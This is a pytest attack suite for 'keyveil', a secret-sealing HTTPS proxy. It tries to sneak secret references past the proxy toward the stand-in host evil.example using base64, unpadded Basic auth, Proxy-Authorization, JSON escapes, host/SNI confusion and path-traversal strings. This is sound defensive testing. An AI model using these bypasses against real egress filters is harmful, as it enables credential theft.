"""Second black-box attack on keyveil, written from SPEC.md only, through a real proxy.

Every test drives a real mitmdump running keyveil (tests/conftest.py helpers)
toward the real local TLS upstream, and judges what the upstream received or
what the client got back. Nothing here imports keyveil.

``test_finding_*``: one way keyveil breaks the SPEC; it asserts what the SPEC
requires, so it fails while keyveil is wrong. ``test_holds_*``: attacks that did
not get through, kept as regression guards. Findings already reported by
tests/test_attack.py are not repeated. Values are generated per run.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import secrets
import socket
import ssl
import string
import time
import urllib.parse

import pytest

from tests import infra
from tests.infra import wsclient
from tests.attack_oracle import client, holds, rand, received
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(180)

RULES = """\
version: 1
providers:
  builtin: true
secrets:
  github/pat:
    hosts: [api.github.com]
    inject: [{header: Authorization}, {basic_auth: true}]
  gitlab/token:
    hosts: [gitlab.test.keyveil]
    inject: [{query: private_token}, {body: true}, {path: true}]
  ws/token:
    hosts: [ws.test.keyveil]
    inject: [{websocket: true}]
  odd/val:
    hosts: [odd.test.keyveil]
    inject: [{header: x-odd}, {body: true}]
  scoped/tok:
    hosts: [scoped.test.keyveil]
    inject: [{header: Authorization}]
    methods: [GET]
    paths: ["/repos/**"]
  nocert/tok:
    hosts: [deep.sub.test.keyveil]
    inject: [{header: Authorization}]
policy:
  max_body_bytes: {max_body}
"""

MB = 1 << 20  # conftest's max_body_bytes: bodies past it take the streaming sealer
REF = "{{secret:github/pat}}"


def _odd_value() -> str:
    # JSON- and percent-special characters, a non-ASCII letter and an astral
    # character (a surrogate pair once JSON-escaped).
    return "p\u00e4ss/+= \"q\\\U0001f600" + secrets.token_hex(6)


@pytest.fixture(scope="module")
def kv(tmp_path_factory):
    setup = make_home(tmp_path_factory.mktemp("attack2"), rules=RULES)
    extra = {
        "odd/val": _odd_value(),
        "scoped/tok": "sco_" + secrets.token_urlsafe(20),
        "nocert/tok": "noc_" + secrets.token_urlsafe(20),
    }
    for name, value in extra.items():
        r = keyveil(setup.env, "secret", "set", name, stdin=value.encode() + b"\n")
        assert r.returncode == 0, r.stderr
        setup.values[name] = value.encode()
    return setup


@pytest.fixture(scope="module")
def proxy(kv, upstream, tmp_path_factory):
    work = tmp_path_factory.mktemp("attack2-proxy")
    with keyveil_proxy(upstream, work, kv, flowfile=work / "flows.mitm", flow_detail=4) as p:
        yield p


# ============================================================================ oracle
#
# A value "got through" when the bytes hold it under up to three layers of the
# SPEC §3 forms, decoded with the standard library only (tests/attack_oracle.py).


def leaked(up, value: bytes) -> bool:
    return holds(received(up), value) or holds(up.all_bytes(), value)


def raw_exchange(proxy, host: str, request: bytes, *, port: int = 443, sni: str | None = None) -> bytes:
    """CONNECT HOST:PORT, TLS with SNI (default HOST), send REQUEST, read until close."""
    s = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    answer = s.recv(4096)
    if not answer.startswith(b"HTTP/1.1 200"):
        s.close()
        return answer
    t = infra.client_ssl_context(proxy.ca_cert).wrap_socket(s, server_hostname=sni or host)
    t.sendall(request)
    t.settimeout(5)
    out = b""
    try:
        while chunk := t.recv(65536):
            out += chunk
    except (TimeoutError, ssl.SSLError, OSError):
        pass
    t.close()
    return out


def block_code(raw: bytes) -> str | None:
    m = re.search(rb"(?i)\r\nx-keyveil-block: ([a-z_]+)", raw)
    return m.group(1).decode() if m else None



# ============================================================================ findings
#
# G1. SPEC §3a: detected token shapes toward a provider are not sealed at all.
# A GitHub classic PAT shape and an AWS access key id, built at run time,
# reach api.anthropic.com raw, JSON-escaped and in base64.


def _ghp() -> str:
    return "ghp" + "_" + rand(36)


def _akia() -> str:
    return "AK" + "IA" + rand(16, string.ascii_uppercase + string.digits)


@pytest.mark.parametrize(
    "kind,make",
    [("github-pat", _ghp), ("aws-access-key", _akia)],
)
@pytest.mark.parametrize("form", ["raw", "json-escaped", "base64"])
def test_finding_detected_tokens_are_sealed_toward_a_provider(proxy, up, kind, make, form):
    tok = make()
    if form == "raw":
        body = json.dumps({"messages": [{"role": "user", "content": "my key is " + tok}]}).encode()
    elif form == "json-escaped":
        esc = "".join("\\u%04x" % ord(c) if i % 2 else c for i, c in enumerate(tok))
        body = ('{"messages": [{"role": "user", "content": "key ' + esc + '"}]}').encode()
    else:
        body = json.dumps({"content": base64.b64encode(("user:" + tok).encode()).decode()}).encode()
    with client(proxy) as c:
        r = c.post("https://api.anthropic.com/v1/messages", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 200
    assert not leaked(up, tok.encode()), f"an unregistered {kind} token reached api.anthropic.com ({form})"
    assert holds(received(up), ("{{secret:detected/" + kind + "-").encode())


# G2. SPEC §4: "the value is encoded for its place ... JSON-escaped inside a
# JSON string". A reference inside a JSON string inside a JSON string (SPEC §3
# recognises it there) is injected escaped only once: a value holding `"` or
# `\` ends the inner string early and the inner document no longer parses.


def test_finding_value_injected_into_a_json_string_inside_a_json_string_is_escaped_twice(proxy, up, kv):
    v = kv.values["odd/val"].decode()
    body = json.dumps({"wrapped": json.dumps({"token": "{{secret:odd/val}}", "n": 1})}).encode()
    with client(proxy) as c:
        r = c.post("https://odd.test.keyveil/api", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 200, r.text
    (rec,) = up.requests
    outer = json.loads(rec.body)
    # today: '{"token": "päss/+= "q\\😀…", "n": 1}', which json.loads refuses
    assert json.loads(outer["wrapped"]) == {"token": v, "n": 1}


# G3. SPEC §4: "percent-encoded in a URL". With `path: true` a value holding
# "/" is injected with its "/" left raw, so the single path segment that held
# the reference becomes two segments (the query injection writes %2F).


def test_finding_value_injected_into_a_path_segment_stays_one_segment(proxy, up, kv):
    v = kv.values["gitlab/token"].decode()
    assert "/" in v
    with client(proxy) as c:
        r = c.get("https://gitlab.test.keyveil/api/v4/projects/{{secret:gitlab/token}}/issues")
    assert r.status_code == 200
    (rec,) = up.requests
    segments = [urllib.parse.unquote(s) for s in rec.path.split("?")[0].split("/")]
    # today: ['', 'api', 'v4', 'projects', 'glpat', '<rest of the value>', 'issues']
    assert segments == ["", "api", "v4", "projects", v, "issues"]


# G4. SPEC §4 step 4 / §3: Basic credentials are an auth position and base64
# "padded or not" is a form. A reference in unpadded Basic credentials toward
# an unbound host is forwarded; the same credentials padded are blocked.


def test_finding_unpadded_basic_credentials_with_an_unbound_reference_are_blocked(proxy, up):
    user = next(u for u in ("u", "uu", "uuu") if len(u + ":" + REF) % 3)
    cred = base64.b64encode((user + ":" + REF).encode()).decode()
    with client(proxy) as c:
        padded = c.get("https://evil.example/echo", headers={"authorization": "Basic " + cred})
        unpadded = c.get("https://evil.example/echo", headers={"authorization": "Basic " + cred.rstrip("=")})
    assert (padded.status_code, padded.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert (unpadded.status_code, unpadded.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == []


# G5. SPEC §6 step 4 names Proxy-Authorization as an auth position. A reference
# there is blocked when raw, but Basic credentials in Proxy-Authorization are
# not decoded: base64(user:{{secret:github/pat}}) is forwarded to evil.example.


def test_finding_proxy_authorization_basic_with_an_unbound_reference_is_blocked(proxy, up):
    cred = base64.b64encode(b"u:" + REF.encode()).decode()
    with client(proxy) as c:
        r = c.get("https://evil.example/echo", headers={"proxy-authorization": "Basic " + cred})
    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == [], "forwarded: " + str([rec.header("proxy-authorization") for rec in up.requests])


# G6. SPEC §3: "References are recognised through the same layers ... for
# injection and enforcement alike"; base64 is one of those layers. A
# base64-encoded reference in an auth header, or percent-encoded base64 in an
# auth query parameter, toward an unbound host is not seen and not blocked.


@pytest.mark.parametrize(
    "where",
    ["authorization-bearer", "api-key-header", "x-auth-token-urlsafe", "key-query-percent-base64"],
)
def test_finding_base64_reference_in_an_auth_position_is_blocked(proxy, up, where):
    b64 = base64.b64encode(REF.encode()).decode()
    headers, query = {}, ""
    if where == "authorization-bearer":
        headers = {"authorization": "Bearer " + b64}
    elif where == "api-key-header":
        headers = {"api-key": b64}
    elif where == "x-auth-token-urlsafe":
        headers = {"x-auth-token": base64.urlsafe_b64encode(("t:" + REF).encode()).decode().rstrip("=")}
    else:
        query = "?key=" + urllib.parse.quote(b64, safe="")
    with client(proxy) as c:
        r = c.get("https://evil.example/echo" + query, headers=headers)
    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == []


@pytest.mark.parametrize("escaped", ["a letter", "the colon"])
def test_finding_base64_of_a_reference_with_a_character_json_escaped_is_blocked(proxy, up, escaped):
    """Base64 of the reference with one letter or its colon written `\\u00XX` (session-9
    attack: forwarded 12 and 16 of 16): the decoded token was asked only for plain
    markers."""
    text = REF.replace("e", "\\u0065", 1) if escaped == "a letter" else REF.replace(":", "\\u003a")
    b64 = base64.b64encode(text.encode()).decode()
    with client(proxy) as c:
        r = c.get("https://evil.example/echo", headers={"authorization": "Bearer " + b64})
    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == []


# G7. SPEC I4: a body the proxy cannot decode is blocked with a clear error.
# Unknown and stacked Content-Encodings of a response get a 502
# undecodable_body, but a response that says gzip and is not gzip reaches the
# client as "200 OK" with an empty, truncated body (the connection is cut).


def test_finding_response_that_is_not_the_gzip_it_claims_is_a_clear_error(proxy, up, kv):
    v = kv.values["github/pat"]
    body = b"not gzip at all " + v
    up.set_response("/respond", 200, [("content-type", "text/plain"), ("content-encoding", "gzip"),
                                      ("content-length", str(len(body)))], [body])
    raw = raw_exchange(proxy, "api.github.com", b"GET /respond HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\n\r\n")
    assert not holds(raw, v)
    status = raw.split(b"\r\n", 1)[0]
    # today: b"HTTP/1.1 200 " then headers and nothing else
    assert status.startswith(b"HTTP/1.1 502") and block_code(raw) == "undecodable_body", raw[:300]


# ============================================================================ holds


def _json_escape_random(s: str, rng: random.Random) -> str:
    out = []
    for ch in s:
        cp = ord(ch)
        fmt = rng.choice(["\\u%04x", "\\u%04X"])
        if rng.random() < 0.6:
            if cp > 0xFFFF:
                cp -= 0x10000
                out.append(fmt % (0xD800 + (cp >> 10)) + fmt % (0xDC00 + (cp & 0x3FF)))
            else:
                out.append(fmt % cp)
        else:
            out.append({"/": "\\/"}.get(ch) or json.dumps(ch, ensure_ascii=False)[1:-1])
    return "".join(out)


def _b64d(b: bytes) -> str:
    b = b.replace(b"\r", b"").replace(b"\n", b"").replace(b"-", b"+").replace(b"_", b"/")
    return base64.b64decode(b + b"=" * (-len(b) % 4)).decode("utf-8", "surrogatepass")


@pytest.mark.parametrize("name", ["github/pat", "odd/val", "gitlab/token"])
def test_holds_encoded_carriers_toward_a_provider_decode_to_the_reference(proxy, up, kv, name):
    """Random-case \\u escapes with surrogate pairs and \\/, three JSON layers,
    mixed-case percent with +, percent inside JSON inside base64, base64 at every
    offset in both alphabets wrapped at 64/76/13: the carrier stays valid and
    decodes to the original with the value replaced by its reference."""
    v = kv.values[name]
    s, ref = v.decode(), "{{secret:%s}}" % name
    rng = random.Random(secrets.randbits(32))
    cases = [
        (('{"m": "a ' + _json_escape_random(s, rng) + ' b"}').encode(), lambda b: json.loads(b)["m"]),
        (json.dumps({"a": json.dumps({"b": json.dumps({"c": s})})}).encode(),
         lambda b: json.loads(json.loads(json.loads(b)["a"])["b"])["c"]),
        (("a=1&q=" + "".join(rng.choice(["%%%02x", "%%%02X"]) % x for x in v) + "&z=" + urllib.parse.quote_plus(s)).encode(),
         lambda b: "|".join(v[0] for v in urllib.parse.parse_qs(b.decode()).values())),
        (base64.b64encode(json.dumps({"u": "https://x/?q=" + urllib.parse.quote(s, safe="")}).encode()),
         lambda b: urllib.parse.unquote(json.loads(_b64d(b))["u"])),
        (json.dumps({"d": base64.b64encode(b"zz" + v).decode()}).replace("/", "\\/").encode(),
         lambda b: _b64d(json.loads(b)["d"].encode())),
    ]
    for pre in range(4):
        cases.append((base64.urlsafe_b64encode(("u" * pre + s + "t").encode()).rstrip(b"="), _b64d))
        for width, nl in ((64, b"\n"), (76, b"\r\n"), (13, b"\n")):
            e = base64.b64encode(("x" * (pre + 20) + s + "yy" * 30).encode())
            cases.append((nl.join(e[i : i + width] for i in range(0, len(e), width)), _b64d))
    with client(proxy) as c:
        for body, decode in cases:
            up.reset()
            r = c.post("https://api.openai.com/v1/x", content=body, headers={"content-type": "text/plain"})
            assert r.status_code == 200
            (rec,) = up.requests
            assert not holds(rec.body, v), body
            assert decode(rec.body) == decode(body).replace(s, ref), (body, rec.body)


def test_holds_compressed_sse_split_at_every_byte(proxy, up, kv):
    v = kv.values["odd/val"]
    event = b'data: {"delta": "' + json.dumps(v.decode())[1:-1].encode() + b'"}\n\n'
    for ce in (None, "gzip", "br", "zstd"):
        for cut in range(1, len(event), 1 if ce is None else 5):
            up.set_sse([event[:cut], event[cut:]], delay_between_chunks=0.01)
            if ce:
                up.set_response("/sse", 200, [("content-type", "text/event-stream")], [event[:cut], event[cut:]], 0.01, ce)
            with client(proxy) as c:
                r = c.get("https://api.github.com/sse")
            assert r.status_code == 200
            assert not holds(r.content, v), (ce, cut, r.content)
            assert json.loads(r.content[len(b"data: "):])["delta"] == "{{secret:odd/val}}"


def test_holds_streamed_bodies_past_max_body(proxy, up, kv):
    """Past max_body_bytes (streaming sealer): the value JSON-escaped or in
    base64, right after the limit, request and response."""
    v = kv.values["github/pat"]
    forms = [b"".join(b"\\u%04X" % c for c in v), base64.b64encode(b"u:" + v)]
    with client(proxy) as c:
        for f in forms:
            up.reset()
            body = b'{"m": "' + b"a " * (MB // 2 + 2) + f + b' z"}'
            r = c.post("https://api.openai.com/v1/x", content=body, headers={"content-type": "application/json"})
            assert r.status_code == 200
            assert not holds(up.requests[0].body[MB - 100 :], v)
            at = len(body) - len(f) // 2
            up.set_response("/respond", 200, [("content-type", "application/json")], [body[:at], body[at:]], 0.05)
            r = c.get("https://api.github.com/respond")
            assert r.status_code == 200 and not holds(r.content[MB - 100 :], v)


@pytest.mark.parametrize(
    "connect,port,sni,host",
    [
        ("evil.example", 443, "api.github.com", "api.github.com"),
        ("api.github.com", 443, "evil.example", "api.github.com"),
        ("evil.example", 443, None, "api.github.com"),
        ("api.github.com", 8443, None, "api.github.com"),
        ("127.0.0.1", 443, "api.github.com", "api.github.com"),
    ],
)
def test_holds_host_confusion_never_injects(proxy, up, kv, connect, port, sni, host):
    req = f"GET /echo HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {REF}\r\nConnection: close\r\n\r\n".encode()
    raw = raw_exchange(proxy, connect, req, port=port, sni=sni)
    assert raw.split(b"\r\n", 1)[0].split(b" ")[1] in (b"403", b"421"), raw[:200]
    assert not leaked(up, kv.values["github/pat"])


@pytest.mark.parametrize("path", ["/repos/../user", "/repos/%2e%2e/user", "/repos/..%2fuser", "//repos/../user", "/REPOS/x", "/x/../repos/y"])
def test_holds_path_restriction_is_not_bypassed(proxy, up, kv, path):
    req = f"GET {path} HTTP/1.1\r\nHost: scoped.test.keyveil\r\nAuthorization: Bearer {{{{secret:scoped/tok}}}}\r\nConnection: close\r\n\r\n"
    raw = raw_exchange(proxy, "scoped.test.keyveil", req.encode())
    assert block_code(raw) == "unbound_reference", raw[:200]
    assert not leaked(up, kv.values["scoped/tok"])


def test_holds_injected_values_stay_out_of_console_flow_file_and_audit(proxy, up, kv):
    """WebSocket injection, an injection whose upstream TLS fails (error hook),
    and echoed values: nothing reaches mitmdump's flow_detail=4 console, the -w
    flow file or the audit log."""

    ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://ws.test.keyveil/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
        ws.send("auth {{secret:ws/token}}")
        assert ws.recv(timeout=10) == "auth {{secret:ws/token}}"
        ws.send([b"bin {{secre", b"t:ws/token}}"])  # fragmented
        assert ws.recv(timeout=10) == b"bin {{secret:ws/token}}"
    assert [m.data for m in up.ws_messages if m.direction == "client"][0] == "auth " + kv.values["ws/token"].decode()
    raw = raw_exchange(proxy, "deep.sub.test.keyveil",
                       b"GET /echo HTTP/1.1\r\nHost: deep.sub.test.keyveil\r\nAuthorization: Bearer {{secret:nocert/tok}}\r\nConnection: close\r\n\r\n")
    assert raw.startswith(b"HTTP/1.1 502")
    with client(proxy) as c:
        r = c.get("https://odd.test.keyveil/echo", headers={"x-odd": "{{secret:odd/val}}"})
        assert r.status_code == 200 and not holds(r.content, kv.values["odd/val"])
    time.sleep(1.5)  # flows are written and audit lines appended when flows end
    outputs = {
        "console": proxy.output().encode(),
        "flow file": proxy.flowfile.read_bytes(),
        "audit": b"".join(p.read_bytes() for p in (kv.home / "audit").glob("*")),
    }
    for where, data in outputs.items():
        for name in ("ws/token", "nocert/tok", "odd/val", "github/pat"):
            assert kv.values[name] not in data, (where, name)
            assert not holds(data[-400_000:], kv.values[name], depth=1), (where, name)


def test_holds_fragmented_websocket_messages_toward_a_provider(proxy, up, kv):

    v = kv.values["github/pat"]
    s = v.decode()
    msgs = ["t " + s, '{"a":"' + "".join("\\u%04x" % ord(ch) for ch in s) + '"}', "b " + base64.b64encode(v).decode()]
    ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
        for m in msgs:
            for data in (m, m.encode()):
                k = max(1, len(data) // 6)
                ws.send([data[i : i + k] for i in range(0, len(data), k)])
                ws.recv(timeout=10)
    got = [m.data if isinstance(m.data, bytes) else m.data.encode() for m in up.ws_messages if m.direction == "client"]
    assert len(got) == 6
    for d in got:
        assert not holds(d, v), d
